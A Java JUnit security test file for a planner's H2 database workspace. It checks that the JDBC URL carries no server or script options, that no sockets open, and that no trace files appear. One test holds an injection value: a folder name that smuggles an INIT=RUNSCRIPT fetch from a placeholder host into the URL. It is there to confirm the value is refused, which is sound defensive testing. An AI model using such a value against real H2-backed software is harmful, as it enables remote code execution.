package org.cspplanner.model.store;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.cspplanner.model.sample.SamplePlan;
import org.cspplanner.model.service.PlanService;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class WorkspaceSecurityTest {

    @TempDir
    Path dir;

    @Test
    void theJdbcUrlStartsNoServerAndRunsNoScript() {
        for (boolean encrypted : new boolean[] {false, true}) {
            String url = Workspace.jdbcUrl(dir, encrypted).toUpperCase(Locale.ROOT);
            assertTrue(url.startsWith("JDBC:H2:FILE:"), url);
            for (String forbidden : List.of("AUTO_SERVER", "TCP", "SSL:", "INIT=", "RUNSCRIPT", "IFEXISTS", "ZIP:", "MEM:")) {
                assertFalse(url.contains(forbidden), forbidden + " in " + url);
            }
            assertTrue(url.contains(";WRITE_DELAY=0"), url);
            assertTrue(url.contains(";TRACE_LEVEL_FILE=0"), url);
        }
    }

    @Test
    void aFolderNameWithUrlSyntaxIsRefusedBeforeH2SeesIt() {
        Path hostile = dir.resolve("plans;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'");
        WorkspaceException e = assertThrows(WorkspaceException.class, () -> Workspace.open(hostile));
        assertTrue(e.getMessage().contains("may not contain ';'"), e.getMessage());
        assertFalse(Files.exists(hostile));
    }

    @Test
    void openingAndUsingAWorkspaceOpensNoListeningSocket() throws IOException {
        assumeTrue(Files.isDirectory(Path.of("/proc/self/fd")), "needs Linux /proc to see this process's sockets");
        Set<String> before = listeningSocketsOfThisProcess();
        try (Workspace w = Workspace.open(dir)) {
            PlanService plans = new PlanService(w);
            plans.addPlan(SamplePlan.create());
            assertEquals(1, plans.listPlans().size());
            Set<String> during = listeningSocketsOfThisProcess();
            during.removeAll(before);
            assertEquals(Set.of(), during, "sockets listening after opening a workspace");
        }
    }

    @Test
    void noH2TraceFileIsWrittenEvenAfterAnError() {
        try (Workspace w = Workspace.open(dir)) {
            assertThrows(StoreException.class, () -> w.inTransaction(c -> Sql.update(c, "INSERT INTO nowhere VALUES (1)")));
        }
        try (Stream<Path> files = Files.list(dir)) {
            assertEquals(List.of(), files.filter(f -> f.toString().endsWith(".trace.db")).toList());
        } catch (IOException e) {
            throw new AssertionError(e);
        }
    }

    /** The inodes of TCP sockets in LISTEN state that this process holds open. */
    private static Set<String> listeningSocketsOfThisProcess() throws IOException {
        Set<String> mine = new HashSet<>();
        try (Stream<Path> fds = Files.list(Path.of("/proc/self/fd"))) {
            for (Path fd : fds.toList()) {
                try {
                    String target = Files.readSymbolicLink(fd).toString();
                    if (target.startsWith("socket:[")) {
                        mine.add(target.substring(8, target.length() - 1));
                    }
                } catch (IOException gone) {
                    // The descriptor closed while we listed them.
                }
            }
        }
        Set<String> listening = new HashSet<>();
        for (String table : List.of("/proc/net/tcp", "/proc/net/tcp6")) {
            Path p = Path.of(table);
            if (!Files.exists(p)) {
                continue;
            }
            for (String line : Files.readAllLines(p).subList(1, Files.readAllLines(p).size())) {
                String[] cols = line.trim().split("\\s+");
                if (cols.length > 9 && "0A".equals(cols[3]) && mine.contains(cols[9])) {
                    listening.add(table + " " + cols[1]);
                }
            }
        }
        return listening;
    }
}
